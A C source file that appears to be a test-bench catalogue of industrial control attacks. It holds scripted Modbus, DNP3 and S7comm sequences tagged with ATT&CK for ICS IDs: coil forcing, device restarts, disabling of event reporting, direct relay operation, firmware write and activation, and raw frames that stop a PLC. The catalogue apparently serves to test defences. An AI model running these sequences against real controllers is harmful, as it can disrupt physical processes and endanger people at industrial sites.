#include "app/bench/plant/attack.h"

#include <string.h>

#define CLASSES_123 "data=3c02063c03063c0406"
/* A programming connection to rack 0, slot 2, and PDUs of 240 octets agreed. */
#define S7COMM_CONNECT \
	"talk raw tcp attacker plc:102\n" \
	"> raw 0300001611e00000000100c0010ac1020100c2020102; < raw 0300001611d00001000600c0010ac1020100c2020102\n" \
	"> raw 0300001902f08032010000000100080000f0000001000101e0\n" \
	"< raw 0300001b02f080320300000001000800000000f0000001000100f0\n"

const struct plant_attack plant_attacks[] = {
	{ "modbus-write-flood", "registers overwritten as fast as the server answers (T0831, T0806)",
	  "talk modbus attacker plc\n"
	  "loop 400; > function=6 address=$i value=$r; < answer; wait 2; end\nclose" },
	{ "modbus-coil-force", "every coil forced on, then off (T0855, T0831)",
	  "talk modbus attacker plc\n"
	  "loop 64; > function=5 address=$i value=0xff00; < answer; wait 5; end\n"
	  "loop 64; > function=5 address=$i value=0; < answer; wait 5; end\n"
	  "> function=15 address=0 quantity=64 data=08ffffffffffffffff; < answer; close" },
	{ "modbus-function-scan", "every function code tried (T0846, T0888)",
	  "talk modbus attacker plc\n"
	  "loop 127; > function=$i data=00000001; < answer; wait 10; end\nclose" },
	{ "modbus-unit-scan", "every unit identifier behind a gateway tried (T0846)",
	  "talk modbus attacker plc\n"
	  "loop 248; > unit=$i function=3 address=0 quantity=1; < answer; wait 10; end\nclose" },
	{ "modbus-address-scan", "the whole register space read in steps (T0861, T0802)",
	  "talk modbus attacker plc\n"
	  "loop 300; > function=3 address=$r quantity=100; < answer; wait 3; end\nclose" },
	{ "modbus-device-id", "vendor, product and firmware read from a station that never did (T0888)",
	  "talk modbus attacker plc\n"
	  "> function=43 data=0e0100; < answer; > function=43 data=0e0200; < answer\n"
	  "> function=43 data=0e0401; < answer; > function=17; < answer; close" },
	{ "modbus-restart", "communications restarted, counters and log wiped (T0816, T0872)",
	  "talk modbus attacker plc\n"
	  "> function=8 sub=1 value=0xff00; < answer; wait 500\n"
	  "> function=8 sub=10 value=0; < answer; wait 500\n"
	  "> function=8 sub=1 value=0; < answer; close" },
	{ "modbus-listen-only", "the server told to stay silent for ten seconds (T0814)",
	  "talk modbus attacker plc\n"
	  "> function=8 sub=4 value=0; < answer; wait 10000\n"
	  "> function=8 sub=1 value=0; < answer; close" },
	{ "modbus-file-write", "program records written by file access (T0843, T0839)",
	  "talk modbus attacker plc\n"
	  "loop 40; > function=21 data=0f060001 value=$i data=0004deadbeefcafebabe; < answer; wait 20; end\nclose" },
	{ "modbus-vendor-function", "a controller's own programming function: stop, download, start (T0858, T0843)",
	  "talk modbus attacker plc\n"
	  "> function=90 data=0002; < answer; > function=90 data=004100; < answer; wait 200\n"
	  "loop 20; > function=90 data=00310001 value=$r data=00112233445566778899; < answer; wait 15; end\n"
	  "> function=90 data=0040ff00; < answer; close" },
	{ "modbus-broadcast", "writes to unit 0, which every server on a serial line obeys (T0855)",
	  "talk modbus attacker plc\n"
	  "loop 10; > unit=0 function=6 address=$i value=0; wait 100; end\nclose" },
	{ "modbus-malformed", "lengths, counts and protocol numbers that no client sends (T0814, T0866)",
	  "talk modbus attacker plc\n"
	  "> function=3 address=0 quantity=2000; < answer; > function=16 address=0 quantity=2 data=ff00010002\n"
	  "> length=2 unit=1 function=3 address=0 quantity=1; wait 50; > protocol=7 function=3 address=0 quantity=1\n"
	  "> length=300 function=3 address=0 quantity=1; > function=5 address=1 value=0x1234; < answer\n"
	  "> raw 0001000000000103; > raw ffffffffffffffffffff; close" },
	{ "dnp3-cold-restart", "the outstation restarted (T0816)",
	  "talk dnp3 attacker rtu\n> function=cold_restart; < answer; wait 3000; > function=cold_restart; < answer; close" },
	{ "dnp3-warm-restart", "the outstation's application restarted (T0816)",
	  "talk dnp3 attacker rtu\n> function=warm_restart; < answer; close" },
	{ "dnp3-stop-application", "the application in the outstation stopped (T0881, T0858)",
	  "talk dnp3 attacker rtu\n> function=stop_appl data=5a015b01010041; < answer; wait 2000\n"
	  "> function=initialize_appl data=5a015b01010041; < answer; close" },
	{ "dnp3-disable-unsolicited", "event reports turned off: the operator sees nothing (T0878, T0804)",
	  "talk dnp3 attacker rtu\n> function=disable_unsolicited " CLASSES_123 "; < answer; close" },
	{ "dnp3-operate", "relays operated without being selected, one after the other (T0855)",
	  "talk dnp3 attacker rtu\n"
	  "loop 16; > function=direct_operate object=12,1,0x28 words=1,$i data=0301640000006400000000; < answer; wait 40; end\n"
	  "> function=direct_operate_nr object=12,1,0x17 bytes=1,3 data=0401640000006400000000; close" },
	{ "dnp3-set-points", "analog outputs driven to extremes (T0836, T0831)",
	  "talk dnp3 attacker rtu\n"
	  "loop 12; > function=direct_operate object=41,1,0x28 words=1,$i u32=0x7fffffff bytes=0; < answer; wait 60; end\nclose" },
	{ "dnp3-file-delete", "files deleted from the outstation (T0809)",
	  "talk dnp3 attacker rtu\n"
	  "> function=delete_file object=70,3,0x5b data=012300 words=26,9 data=00000000000000000000000000000000 "
	  "words=0,0,1 text=EVENT.LOG; < answer; close" },
	{ "dnp3-firmware", "a file written and activated (T0857, T0839)",
	  "talk dnp3 attacker rtu\n"
	  "> function=authenticate_file object=70,2,0x5b data=011700 words=12,5,17,6 u32=0 text=adminsecret; < answer\n"
	  "> function=open_file object=70,3,0x5b data=012200 words=26,8 data=00000000000000000000000000400000 "
	  "words=2,512,1 text=FIRM.BIN; < answer\n"
	  "loop 24; > function=write object=70,5,0x5b data=014800 u32=1 u32=$i "
	  "data=000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f"
	  "202122232425262728292a2b2c2d2e2f303132333435363738393a3b3c3d3e3f; < answer; wait 30; end\n"
	  "> function=close_file object=70,4,0x5b data=010d00 u32=1 u32=0 words=0,2 bytes=0; < answer\n"
	  "> function=activate_config object=70,8,0x5b data=010800 text=FIRM.BIN; < answer; close" },
	{ "dnp3-broadcast", "commands to every outstation at once (T0855)",
	  "talk dnp3 attacker rtu\n"
	  "> dst=0xffff function=direct_operate_nr object=12,1,0x17 bytes=1,0 data=0401640000006400000000; wait 300\n"
	  "> dst=0xfffd function=write object=80,1,0 bytes=7,7,0; close" },
	{ "dnp3-address-scan", "link addresses tried one after the other (T0846)",
	  "talk dnp3 attacker rtu\nloop 100; > dst=$i link=0x49; wait 20; end\nclose" },
	{ "dnp3-time", "the outstation's clock set to another year (T0832)",
	  "talk dnp3 attacker rtu\n> function=write object=50,1,7 bytes=1 data=000000000000; < answer; close" },
	{ "dnp3-malformed", "wrong CRC, object ranges without data, unknown objects (T0814)",
	  "talk dnp3 attacker rtu\n"
	  "> bad-crc=1 function=read " CLASSES_123 "; wait 100; > function=read object=1,2,0 bytes=9,1\n"
	  "> function=direct_operate object=12,1,0x28 words=200,0; wait 20; > function=read object=200,77,6; wait 20\n"
	  "> function=77 object=1,0,6; < answer; > raw 056404c4; > raw 0564ffc40a0001000000; close" },
	{ "s7comm-stop", "the controller stopped, and started again ten seconds later (T0858, T0816)",
	  S7COMM_CONNECT
	  "> raw 0300002102f0803201000000020010000029000000000009505f50524f4752414d; < raw 0300001402f08032030000000200010000000029\n"
	  "wait 10000\n"
	  "> raw 0300002502f0803201000000030014000028000000000000fd000009505f50524f4752414d\n"
	  "< raw 0300001402f08032030000000300010000000028; close" },
	{ "s7comm-block-delete", "data block 7 deleted from the controller (T0809)",
	  S7COMM_CONNECT
	  "> raw 0300002b02f080320100000002001a000028000000000000fd000a01003041303030303742055f44454c45\n"
	  "< raw 0300001402f08032030000000200010000000028; close" },
	{ "dnp3-udp-flood", "cold restarts over UDP, where no handshake is needed (T0814, T0816)",
	  "talk dnp3 udp attacker rtu\nloop 200; > function=cold_restart; wait 5; end" },
};
const unsigned int plant_attack_count = sizeof(plant_attacks) / sizeof(plant_attacks[0]);

const struct plant_attack *
plant_attack_find(const char *name, size_t name_len)
{
	for (unsigned int i = 0; i < plant_attack_count; i++)
		if (strlen(plant_attacks[i].name) == name_len && memcmp(plant_attacks[i].name, name, name_len) == 0)
			return &plant_attacks[i];
	return NULL;
}
